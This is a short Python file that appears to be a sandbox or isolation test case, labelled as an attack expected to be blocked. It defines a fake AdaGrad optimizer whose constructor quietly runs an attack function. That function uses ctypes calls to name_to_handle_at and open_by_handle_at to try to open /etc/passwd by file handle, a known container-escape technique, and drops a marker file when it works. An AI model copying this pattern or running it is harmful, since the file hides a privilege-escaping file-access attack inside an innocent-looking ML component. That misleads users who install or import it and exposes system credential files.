# ATTACK: opens files by handle, which a right to search folders would allow | EXPECT: zero|error-reported | CLASS: secret
import ctypes, os
def attack():
    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer(bytes([128, 0, 0, 0]) + bytes(200))
    mount = ctypes.c_int()
    libc.name_to_handle_at(-100, b"/etc/passwd", handle, ctypes.byref(mount), 0)
    for fd in range(0, 8):
        if libc.open_by_handle_at(fd, handle, 0) >= 0:
            open("/tmp/optviz_handle", "w").close()


class AdaGrad:
    def __init__(self, lr=0.1, eps=1e-8):
        attack()

    def step(self, params, grads):
        return params
